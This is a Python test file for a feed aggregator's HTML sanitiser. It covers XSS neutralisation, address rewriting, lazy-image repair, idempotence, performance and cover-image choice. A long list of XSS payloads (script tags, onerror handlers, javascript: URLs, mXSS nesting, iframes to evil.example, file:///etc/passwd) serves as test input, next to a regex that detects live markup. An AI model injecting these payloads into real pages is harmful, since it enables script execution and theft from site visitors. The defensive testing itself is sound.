from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aggregator.model.parsed import GUESS, HTML, TEXT, ParsedText
from aggregator.normalise.body import excerpt, to_content, to_html
from aggregator.normalise.fixes import FIXES, Placeholder
from aggregator.normalise.images import choose_cover, repair_images
from aggregator.normalise.sanitise import sanitise
from aggregator.normalise.tags import read_openings
from aggregator.normalise.text import html_to_line
from aggregator.parse.repair import drop_illegal

BASE = "https://blog.example.org/2021/post.html"

#: Our own list: each tries to run or to load something.
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr='alert(1)' x='",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#1; java&#9;script:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='&nbsp;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='http://[::1'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 1x, x 2x'>",
    "<video poster='javascript:alert(1)' src=x></video>",
    "<video><source onerror=alert(1)></video>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example/'><input name=p><button formaction='javascript:alert(1)'>b</button></form>",
    "<style>@import url(https://evil.example/)</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='https://x.example/' target=_blank onclick=alert(1) ping='https://evil.example/'>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x",
    "<table background='javascript:alert(1)'><tr><td>x",
    "<isindex action=javascript:alert(1) type=image>",
    "<img src='x' alt='\"><script>alert(1)</script>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b id='x\"onmouseover=\"alert(1)'>x</b>",
]
#: Whatever these find in sanitised HTML can run or load something that it must not.
_LIVE = re.compile(
    r"<\s*/?\s*(?:script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|template|textarea|noscript)\b"
    r"|<[^>]*\s(?:on\w+|style|formaction|srcdoc|target|ping|background|action|data)\s*=",
    re.IGNORECASE,
)
_ATTRIBUTES = re.compile(r"\s([a-z]+)=\"([^\"]*)\"")
_ADDRESSES = {"href", "src", "poster", "cite"}
_ENTITIES = re.compile(r"&(?!(?:amp|lt|gt|quot|nbsp);)")


def assert_safe(html: str) -> None:
    """The invariants of SafeHtml."""
    assert not _LIVE.search(html)
    assert not _ENTITIES.search(html)
    assert "\r" not in html
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", html)
    # Quoted ">" are escaped, so a tag ends at the first one. Attribute by attribute, for a title may hold " src=".
    pairs = [pair for tag in re.findall(r"<[a-z][^>]*>", html) for pair in _ATTRIBUTES.findall(tag)]
    for address in (value for name, value in pairs if name in _ADDRESSES):
        assert re.match(r"https?://[^/]|mailto:", address), address
        assert not re.search(r"[\x00-\x20]", address)


@pytest.mark.post_row("D25", "D35")
@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.publishes("R81")
def test_attacks_are_inert(vector: str) -> None:
    """No vector leaves anything that runs, loads or leads elsewhere, alone or amid text, once or twice cleaned."""
    for html in (vector, f"<p>before {vector} after</p>", f"<table><tr><td>{vector}", vector * 3):
        clean = sanitise(html, BASE)
        assert_safe(clean)
        assert sanitise(clean, BASE) == clean


@pytest.mark.parametrize(
    "html",
    [
        "<p>a <strong>b</strong> &amp; \"c\" 'd' &lt;e&gt;&nbsp;f</p>",
        '<div id="recommend_bottom"></div><div id="article_bottom"></div>',
        '<figure><img src="https://x.example/a.png?b=1&amp;c=2" alt="&quot;x&quot;" width="640" height="480"></figure>',
        '<ul><li>one</li><li>two<ol start="3"><li>x</li></ol></li></ul>',
        '<pre><code class="language-python">if a &lt; b:\n    pass\n\n    x</code></pre>',
        '<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td>a</td><td>b</td></tr></tbody></table>',
        '<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby><details open=""><summary>s</summary>t</details>',
        '<video src="https://x.example/v.mp4" poster="https://x.example/v.jpg" controls=""></video>',
        '<picture><source srcset="https://x.example/a 1x, https://x.example/b 2x" type="image/webp"><img src="https://x.example/a"></picture>',
        '<a href="mailto:ann@x.example">mail</a><blockquote cite="https://x.example/">q</blockquote><hr><br>',
        '<p lang="ar" dir="rtl">نص</p><time datetime="2021-09-11">x</time>',
        '<img src="https://x.example/a.jpg" referrerpolicy="no-referrer">',
        '<a href="http://Example.org/%7Ea/?q=%2f&amp;r=ä#é">kept as written</a>',
    ],
)
def test_good_html_stays_as_it_is(html: str) -> None:
    """What is safe, complete and absolute comes out byte for byte."""
    assert sanitise(html, BASE) == html


@pytest.mark.post_row("D30", "D35")
@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<a href='/a'>x</a>", '<a href="https://blog.example.org/a">x</a>'),
        ("<a href='b?c=1&d=2'>x</a>", '<a href="https://blog.example.org/2021/b?c=1&amp;d=2">x</a>'),
        ("<a href='#note'>x</a>", '<a href="https://blog.example.org/2021/post.html#note">x</a>'),
        ("<img src='//cdn.example/x.png'>", '<img src="https://cdn.example/x.png">'),
        ("<img src=' https://cdn.example/a\nb.png '>", '<img src="https://cdn.example/ab.png">'),
        ("<img src='https://cdn.example/a b.png'>", '<img src="https://cdn.example/a%20b.png">'),
        ("<a href='http:///x.example/y'>x</a>", '<a href="http://x.example/y">x</a>'),
        ("<a href='http://x.example:99999/'>x</a>", "<a>x</a>"),
        ("<a href='http://[bad/'>x</a><a href=''>y</a><a href='tel:1'>z</a>", "<a>x</a><a>y</a><a>z</a>"),
        ("<img src='data:image/png;base64,AAAA'>t", "t"),
        ("<blockquote cite='/s'>q</blockquote>", '<blockquote cite="https://blog.example.org/s">q</blockquote>'),
        ("<video src=v.mp4 autoplay></video>", '<video src="https://blog.example.org/2021/v.mp4" controls=""></video>'),
        ("<img srcset='x, /y,z.png 2x,http://a.example/b 300w, data:x 4x, w 5q'>",
         '<img srcset="https://blog.example.org/2021/x, https://blog.example.org/y,z.png 2x, http://a.example/b 300w">'),
        ("<img src=/x width=100px height=50% border=0>", '<img src="https://blog.example.org/x" width="100" height="50%">'),
        ("<p class=a style=b><font color=red>x</font></p>", "<p>x</p>"),
        ("a\r\nb&#13;c", "a\nb\nc"),
        ("&#1;&#x1f;x&#xFFFE;&#0;", "x"),
        ("<pre>\n\n\nx</pre>", "<pre>x</pre>"),
        ("<!-- c -->x<!--[if IE]>y<![endif]-->", "x"),
        ("<p><button><p>x</p></button></p>", "<p></p>"),
        ("<p><marquee><p>x</p></marquee></p>", "<p></p><p>x</p><p></p>"),
        ("unclosed <b>bold", "unclosed <b>bold</b>"),
    ],
)  # fmt: skip
def test_what_is_changed(html: str, expected: str) -> None:
    """Addresses become absolute or go; what has no place in a post goes; markup is closed."""
    assert sanitise(html, BASE) == expected


_TAGS = (
    "a p div b button table tr td th tbody form select option svg math style script pre ul li dl dt dd h1 h2 font"
    " marquee ruby rt video img source nobr textarea title template noscript iframe br details object applet mglyph"
    " foreignObject mtext image"
)
_PIECES = st.one_of(
    st.sampled_from(_TAGS.split()).map(lambda tag: f"<{tag}>"),
    st.sampled_from(_TAGS.split()).map(lambda tag: f"</{tag}>"),
    st.sampled_from(
        ["<a href='/x y'>", "<img src=x onerror=y>", "<p id='a\"b'>", "<!--", "-->", "<![CDATA[", "]]>", "&#13;", "&#1;"]
    ),
    st.text(max_size=6),
    st.sampled_from(["x", "\n", "&amp;", "&lt;b&gt;", "&nbsp;", "\n\n", '"', "\r", "&#xD800;", "&#0;"]),
)


@settings(deadline=None, max_examples=200)
@given(st.lists(_PIECES, max_size=12).map("".join))
def test_cleaning_twice_changes_nothing(html: str) -> None:
    """Sanitised HTML keeps the invariants and comes out of the sanitiser as it went in."""
    clean = sanitise(drop_illegal(html), BASE)

    assert_safe(clean)
    assert sanitise(clean, BASE) == clean


@settings(deadline=None, max_examples=100)
@given(st.lists(_PIECES, max_size=12).map("".join))
def test_no_image_and_no_pre_comes_from_nowhere(html: str) -> None:
    """Only a text that opens an <img>, an <image> or a <pre> has one when it is clean: in others nobody looks for them."""
    names, clean = read_openings(html).names, sanitise(drop_illegal(html), BASE)

    assert "<img" not in clean or not names.isdisjoint({"img", "image"})
    assert "<pre" not in clean or "pre" in names


def test_depth_is_bounded() -> None:
    """A hundred thousand nested elements become their text; deep lists of unclosed items do not count as nesting."""
    assert sanitise("<div>" * 100_000 + "deep", BASE) == "<p>deep</p>"
    assert sanitise("<ul>" + "<li>x" * 1000, BASE).count("<li>") == 1000


_STALLS = (
    *("<img ", "<img '", "<img \"' data-src", "<div ", "<div>", "<noscript>", "</noscript><noscript>", "<!--", "<![CDATA["),
    *("<h1>", "<pre>", "&", "&#", "&x;", "\n ", "<table>", "<b>", "<script>", "<svg>", "<select>", "<li>", "<p>", "</", "<"),
)


@pytest.mark.sampled(3)
@pytest.mark.timeout(60)
@pytest.mark.parametrize("piece", _STALLS)
def test_repetition_does_not_stall(piece: str) -> None:
    """Half a megabyte of one opened thing is read in time that grows with its length, not with its square."""
    html = f"<img data-src=x></noscript>{piece * (500_000 // len(piece))}"

    for text in (ParsedText(value=html, type=HTML), ParsedText(value=f"<div data-zkinfo={html}", type=GUESS)):
        content = to_content(text, base=BASE, fixes=FIXES.values())
        assert not isinstance(content, Placeholder)
        assert_safe(content)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<img src='blank.gif' data-original='http://x.example/a.jpg'>", '<img src="http://x.example/a.jpg">'),
        ('<IMG data-src="/a.jpg?x=1&amp;y=2" class="lazy">', '<img src="https://blog.example.org/a.jpg?x=1&amp;y=2">'),
        ("<img data-srcset='/a 1x, /b 2x'>",
         '<img src="https://blog.example.org/a" srcset="https://blog.example.org/a 1x, https://blog.example.org/b 2x">'),
        ("<img srcset='/s.jpg 1x'>", '<img srcset="https://blog.example.org/s.jpg 1x" src="https://blog.example.org/s.jpg">'),
        ("<img src='/a.jpg' data-src='{json}'>", '<img src="https://blog.example.org/a.jpg">'),
        ("<img data-src='/a.jpg'><noscript><img src='/a.jpg'></noscript>", '<img src="https://blog.example.org/a.jpg">'),
        ("<p>x</p><noscript><img src='/only.jpg'></noscript>", '<p>x</p><img src="https://blog.example.org/only.jpg">'),
        ("<img data-src='javascript:alert(1)' src='/a.jpg'>", '<img src="https://blog.example.org/a.jpg">'),
        ("<img data-src='x/\"onerror=alert(1)' src=y>", '<img src="https://blog.example.org/2021/y">'),
    ],
)  # fmt: skip
def test_lazy_images_are_repaired(html: str, expected: str) -> None:
    """An image that a script would have loaded is loaded by its own address, and its copy for others goes."""
    clean = sanitise(repair_images(html), BASE)

    assert sorted(clean.replace(">", " >").split()) == sorted(expected.replace(">", " >").split())


def test_text_is_told_from_html() -> None:
    """Text becomes paragraphs, HTML stays, and a text that is one piece of HTML from end to end is taken for it."""

    def rendered(value: str, type_: str) -> str:
        return to_html(ParsedText(value=value, type=type_), base=BASE)

    assert rendered("a < b &amp; c\nd\n\ne", TEXT) == "<p>a &lt; b &amp;amp; c<br>d</p><p>e</p>"
    assert rendered("a < b &amp; c\nd\n\ne", GUESS) == "<p>a &lt; b &amp; c<br>d</p><p>e</p>"
    assert rendered("one\ntwo", HTML) == "<p>one<br>two</p>"
    assert rendered("see <b>this</b>", GUESS) == "see <b>this</b>"
    assert rendered("see <b>this</b>", TEXT) == "<p>see &lt;b&gt;this&lt;/b&gt;</p>"
    assert rendered("use List<T> here", GUESS) == "<p>use List&lt;T&gt; here</p>"
    assert rendered("<p>really</p>", TEXT) == "<p>really</p>"


@pytest.mark.publishes("R83")
def test_base_of_the_text_goes_first() -> None:
    """xml:base resolves relative addresses, itself resolved against the document."""
    text = ParsedText(value="<a href='x'>x</a>", type=HTML, base="/deep/")

    assert to_html(text, base=BASE) == '<a href="https://blog.example.org/deep/x">x</a>'


def test_excerpt() -> None:
    """An excerpt is at most 300 characters of plain text and a link."""
    cut = excerpt(sanitise(f"<h1>Title</h1><p>{'word ' * 200}<img src='a.png'></p>", BASE), "https://x.example/?a=1&b=2")

    assert cut.startswith("<p>Title word word")
    assert cut.endswith('…</p><p><a href="https://x.example/?a=1&amp;b=2">https://x.example/?a=1&amp;b=2</a></p>')
    assert len(html_to_line(cut.partition("</p>")[0])) <= 300


@pytest.mark.post_row("D34")
@pytest.mark.parametrize(
    ("html", "cover"),
    [
        ('<img src="https://x.example/1x1.gif"><img src="https://x.example/photo.jpg">', "https://x.example/photo.jpg"),
        ('<img src="https://x.example/a" width="1" height="1"><img src="https://x.example/b?x=1&amp;y=2">', "https://x.example/b?x=1&y=2"),
        ('<img src="https://x.example/a" width="1080" height="167"><img src="https://x.example/b">', "https://x.example/b"),
        ('<img src="https://x.example/a" width="640" height="480"><img src="https://x.example/b">', "https://x.example/a"),
        ('<img src="https://x.example/equation?tex=x">', None),
        ('<img src="https://x.example/p/undefined">', None),
        ('<img src="https://x.example/icons/star.png">', None),
        ("<p>none</p>", None),
    ],
)  # fmt: skip
def test_cover_is_a_picture(html: str, cover: str | None) -> None:
    """Counters, icons, formulas and dividers are no covers."""
    assert choose_cover((), sanitise(html, BASE)) == cover
